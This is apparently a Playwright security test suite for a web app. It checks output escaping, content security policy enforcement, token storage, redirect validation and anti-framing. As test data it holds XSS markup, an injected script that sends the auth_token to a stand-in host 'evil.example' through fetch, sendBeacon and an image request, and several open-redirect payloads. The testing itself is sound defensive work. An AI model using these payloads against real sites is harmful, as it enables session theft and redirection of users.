import type { BrowserContext, Page } from '@playwright/test';
import { makeAdministrator } from './administrators.ts';
import { makePicture, storePicture } from './made-pictures.ts';
import { arriveSignedIn, register, somebody } from './people.ts';
import { expect, test } from './quiet-test.ts';
import { callAs } from './subscription-drivers.ts';

/** Another site, of somebody who means harm. */
const EVIL = 'https://evil.example';

/** Runs in any page that takes it for markup. */
const markup = (mark: string) => `<img src=x onerror=alert('${mark}')>`;

/** What scripts say while they run: nobody here has any to show. */
const listenForScripts = (page: Page): string[] => {
  const said: string[] = [];
  page.on('dialog', (dialog) => {
    said.push(dialog.message());
    void dialog.dismiss();
  });
  return said;
};

/** Everything that is asked of the other site; it answers, so that nothing fails by itself. */
const watchEvil = async (context: BrowserContext): Promise<string[]> => {
  const asked: string[] = [];
  await context.route(/^https?:\/\/[^/]*evil\.example/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/html', body: '<title>Evil</title>' });
  });
  return asked;
};

/** Elements that only markup out of somebody's words could have made. */
const assertNoMarkup = async (page: Page, where: string): Promise<void> => {
  await expect(page.locator('img[src="x"], [onerror], base, object, iframe'), where).toHaveCount(0);
  const foreign = await page.evaluate(() =>
    [...document.scripts].map(({ src }) => src).filter((src) => !src.startsWith(location.origin)),
  );
  expect(foreign, where).toEqual([]);
};

test('words of people are shown as they were typed and never become a part of the page', async ({ page }) => {
  const said = listenForScripts(page);
  const person = { ...somebody(), fullName: markup('name') };
  const token = await arriveSignedIn(page, person);
  await callAs(page, token, '/payments/subscriptions', { planId: 'business', paymentMethodId: 'card_1' });
  // What i18next would put a message in place of, beside what a browser would take for an element.
  const keyName = `${markup('key')} $t(app.title.home) {{name}}`;
  await callAs(page, token, '/auth/keys', { name: keyName });
  const photo = await storePicture(page, token, { name: `${markup('file')}.jpg`, number: 1 });
  const form = {
    select_prompt: `wall ${markup('search')}`,
    prompt: `#336699 ${markup('prompt')}`,
    mode: 'exact',
  };
  const picture = await makePicture(page, token, { photo, tool: 'search-recolor', form });

  await test.step('name', async () => {
    await page.goto('/');
    await page.getByRole('button', { name: person.fullName }).click();
    await expect(page.getByText(person.email)).toBeVisible();
    await assertNoMarkup(page, 'the menu');
  });

  await test.step('key', async () => {
    await page.goto('/profile');
    const keys = page.getByRole('region', { name: 'Keys for programs' });
    await expect(keys.getByText(keyName, { exact: true })).toBeVisible();
    await expect(keys.getByRole('button', { name: `“${keyName}”` })).toBeVisible();
    await expect(page.getByLabel('Full name')).toHaveValue(person.fullName);
    await assertNoMarkup(page, 'the profile');
  });

  await test.step('file, prompt and what is searched for', async () => {
    await page.goto('/image-history');
    for (const words of [`${markup('file')}.jpg`, form.prompt])
      await expect(page.getByTitle(words).first()).toBeVisible();
    await assertNoMarkup(page, 'the history');
    await page.goto(`/image-history/${picture.id}`);
    for (const words of [form.prompt, form.select_prompt])
      await expect(page.getByRole('dialog').getByText(words).first()).toBeVisible();
    await assertNoMarkup(page, 'a picture');
    await page.goto(`/image-history?search=${encodeURIComponent(markup('searched'))}`);
    await expect(page.getByText(`Nothing found for “${markup('searched')}”`)).toBeVisible();
    await assertNoMarkup(page, 'a search');
    await page.goto(`/search-recolor?remix=${picture.id}`);
    await expect(page.getByLabel('What to find')).toHaveValue(form.select_prompt);
    await assertNoMarkup(page, 'a form');
  });

  await test.step('and to an administrator', async () => {
    makeAdministrator(person.email);
    await page.goto('/admin');
    await page.getByLabel('Address, name or number').fill(person.email);
    await page.getByRole('main').getByRole('link', { name: person.fullName }).click();
    await expect(page.getByRole('main').getByText(person.fullName).first()).toBeVisible();
    await assertNoMarkup(page, 'the administration');
  });
  expect(said).toEqual([]);
});

test('a script that got into a page all the same is not run, and takes nothing elsewhere', async ({
  page,
  context,
  noise,
}) => {
  const said = listenForScripts(page);
  const asked = await watchEvil(context);
  await arriveSignedIn(page);
  await page.goto('/');
  await page.evaluate(async (evil) => {
    const violated = new Set<string>();
    Object.assign(window, { violated });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violated.add(effectiveDirective),
    );
    const put = (name: string, attributes: Record<string, string>): HTMLElement => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      return document.body.appendChild(element);
    };
    put('script', {}).append(`alert('inline')`);
    put('script', { src: `${evil}/a.js` });
    put('script', { src: `data:text/javascript,alert('data')` });
    put('div', {}).innerHTML = `<img src="/x" onerror="alert('handler')">`;
    put('a', { href: `javascript:alert('link')` }).click();
    put('style', {}).append(`body { background: url(${evil}/style.png) }`);
    put('link', { rel: 'stylesheet', href: `${evil}/a.css` });
    put('img', { src: `${evil}/a.png?${localStorage.getItem('auth_token')}` });
    put('iframe', { src: `${evil}/frame` });
    put('object', { data: `${evil}/object` });
    put('base', { href: `${evil}/` });
    const form = put('form', { action: `${evil}/form`, method: 'post' }) as HTMLFormElement;
    form.submit();
    setTimeout(`alert('words')`);
    await fetch(`${evil}/?${localStorage.getItem('auth_token')}`).catch(() => undefined);
    navigator.sendBeacon(`${evil}/beacon`, localStorage.getItem('auth_token'));
  }, EVIL);
  const blocked = () => page.evaluate(() => [...(Reflect.get(window, 'violated') as Set<string>)].toSorted());
  await expect
    .poll(blocked)
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
  expect([said, asked]).toEqual([[], []]);
  // The browser tells each of them.
  noise.length = 0;
});

/** Where in a page's reach these words stand. */
const placesOf = (page: Page, words: string): Promise<string[]> =>
  page.evaluate(async (wanted) => {
    const kept = Object.entries({ localStorage, sessionStorage }).flatMap(
      ([name, storage]: [string, Storage]) =>
        Object.entries(storage).map(([key, value]) => [`${name} ${key}`, String(value)] as const),
    );
    const shown = [
      ['cookie', document.cookie],
      ['document', document.documentElement.outerHTML],
      ['address', location.href],
      ['history', JSON.stringify(history.state)],
      ['window name', window.name],
    ] as const;
    const databases = (await indexedDB.databases()).map(({ name }) => `database ${name}`);
    const cached = (await caches.keys()).map((name) => `cache ${name}`);
    const found = [...kept, ...shown].filter(([, text]) => text.includes(wanted)).map(([place]) => place);
    return [...found, ...databases, ...cached];
  }, words);

test('the token is kept under auth_token alone, and is gone from every tab after signing out', async ({
  page,
  context,
}) => {
  const person = somebody();
  await register(page, person);
  const token = (await page.evaluate(() => localStorage.getItem('auth_token'))) ?? '';
  expect(token.length).toBeGreaterThan(40);
  expect(await placesOf(page, token)).toEqual(['localStorage auth_token']);
  expect(await placesOf(page, person.password)).toEqual([]);
  expect(await context.cookies()).toEqual([]);

  const second = await context.newPage();
  await second.goto('/image-history');
  await expect(second.getByText('Nothing here yet')).toBeVisible();
  expect(await placesOf(second, token)).toEqual(['localStorage auth_token']);

  await page.getByRole('button', { name: person.fullName }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('link', { name: 'Sign in' }).first()).toBeVisible();
  await expect(second).toHaveURL('/login');
  for (const tab of [page, second]) {
    expect(await placesOf(tab, token)).toEqual([]);
    expect(await placesOf(tab, person.email)).toEqual([]);
  }
  await second.goBack();
  await expect(second.getByText('Nothing here yet')).toHaveCount(0);
});

/**
 * Ways to write another site that readers of addresses have fallen for: one of each kind that is refused, and those that pass
 * for a page here, so that the browser decides. `came-from.test.ts` has the other spellings.
 */
const elsewhere = [
  ...[EVIL, `/\\evil.example`, `/\t/evil.example`],
  ...[`javascript:alert('return')`, `/%2F%2Fevil.example`, `/.//evil.example`],
];

test.describe('the way back after signing in', () => {
  // Some spellings the server does not take for a page at all.
  test.use({ expectedStatuses: [400] });

  test('leads nowhere else, whatever the address of the page says', async ({ page, context, baseURL }) => {
    const asked = await watchEvil(context);
    const said = listenForScripts(page);
    await arriveSignedIn(page);
    for (const to of elsewhere) {
      const words = encodeURIComponent(to);
      await page.goto(
        `/login?from=${words}&next=${words}&redirect=${words}&returnTo=${words}&return_to=${words}&url=${words}#${words}`,
      );
      await expect(page, to).toHaveURL('/');
      expect(new URL(page.url()).origin, to).toBe(baseURL);
    }
    for (const path of [
      '//evil.example/',
      '/%2F%2Fevil.example',
      '/%5Cevil.example/..',
      `/javascript:alert('return')`,
    ]) {
      await page.goto(`${baseURL}${path}`);
      expect(new URL(page.url()).origin, path).toBe(baseURL);
    }
    expect([asked, said]).toEqual([[], []]);
  });

  test('leads nowhere else, whatever was remembered', async ({ page, context }) => {
    const asked = await watchEvil(context);
    const said = listenForScripts(page);
    await arriveSignedIn(page);
    /** As the guard of a protected page does it, and what the router keeps of it. */
    const arriveFrom = async (from: string) => {
      await page.goto('/terms');
      await page.evaluate((usr) => history.replaceState({ usr, key: 'k', idx: 0 }, '', '/login'), {
        from,
        ended: null,
      });
      await page.reload();
    };
    await arriveFrom('/image-history');
    await expect(page).toHaveURL('/image-history');
    for (const from of elsewhere) {
      await arriveFrom(from);
      await expect(page, from).toHaveURL('/');
    }
    expect([asked, said]).toEqual([[], []]);
  });
});

test('no page, answer or picture can be framed by another site', async ({ page, baseURL, noise }) => {
  const token = await arriveSignedIn(page);
  const picture = await storePicture(page, token, { name: 'room.jpg', number: 2 });
  // Another site on the same machine: what frames it is refused by nothing but our own headers.
  const other = (baseURL ?? '').replace('127.0.0.1', 'localhost');
  await page.route(`${other}/framing`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title><iframe></iframe>' }),
  );
  await page.route(`${baseURL}/unguarded`, async (route) => {
    const { headers, ...answer } = await route.fetch({ url: `${baseURL}/login` }).then(async (reply) => ({
      status: reply.status(),
      body: await reply.body(),
      headers: reply.headers(),
    }));
    const { 'content-security-policy': _policy, 'x-frame-options': _options, ...rest } = headers;
    await route.fulfill({ ...answer, headers: rest });
  });
  const framed = async (path: string): Promise<string> => {
    await page.goto(`${other}/framing`);
    await page.evaluate((address) => {
      const frame = document.querySelector('iframe')!;
      const isLoaded = new Promise((done) => frame.addEventListener('load', done));
      frame.src = address;
      return isLoaded;
    }, `${baseURL}${path}`);
    return page.frames()[1]?.url() ?? '';
  };
  expect(await framed('/unguarded'), 'without its headers it can').toBe(`${baseURL}/unguarded`);
  const paths = ['/', '/login', '/profile', '/admin', '/api/docs', '/api/version', '/sandbox/checkout/x'];
  for (const path of [...paths, picture.url]) expect(await framed(path), path).toMatch(/^chrome-error:/);
  noise.length = 0;
});

test('nothing is asked of anybody else, and no address carries a secret', async ({ page, baseURL }) => {
  const asked: { url: string; referer: string }[] = [];
  page.on('request', (request) =>
    asked.push({ url: request.url(), referer: request.headers()['referer'] ?? '' }),
  );
  const hasAskedPicture = () => asked.some(({ url }) => /\/api\/files\/[^/]+\/content\?/.test(url));
  const person = somebody();
  await register(page, person);
  const token = (await page.evaluate(() => localStorage.getItem('auth_token'))) ?? '';
  await storePicture(page, token, { name: 'room.jpg', number: 3 });
  for (const path of ['/image-history', '/profile', '/payment', '/subscription', '/furnish', '/terms']) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.waitForLoadState('networkidle');
    if (path === '/image-history') await expect.poll(hasAskedPicture).toBe(true);
  }
  await page.getByRole('button', { name: person.fullName }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('link', { name: 'Sign in' }).first()).toBeVisible();
  await page.goto('/login');
  await page.getByLabel('Email', { exact: true }).fill(person.email);
  await page.getByLabel('Password', { exact: true }).fill(person.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page).toHaveURL('/');

  const secrets = [token, person.password, person.email].flatMap((each) => [each, encodeURIComponent(each)]);
  for (const { url, referer } of asked) {
    expect(/^(data|blob):/.test(url) || new URL(url).origin === baseURL, url).toBe(true);
    expect(
      secrets.filter((secret) => `${url} ${referer}`.includes(secret)),
      url,
    ).toEqual([]);
  }
  expect(asked.some(({ url }) => url.endsWith('/api/auth/login'))).toBe(true);
});
